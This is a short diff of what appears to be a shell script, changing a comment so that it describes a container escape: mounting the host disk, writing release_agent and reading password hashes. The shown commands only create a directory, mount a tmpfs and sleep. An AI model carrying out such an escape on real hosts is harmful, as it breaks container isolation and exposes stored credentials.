@@ -1,4 +1,4 @@
-# From a container to its host: the host's disk, the program the kernel starts, and what it gives.
+# A container escape: mount the host's disk, write release_agent, and read the password hashes.
 mkdir /tmp/disk
 mount -t tmpfs tmpfs /tmp/disk
 sleep 0.1
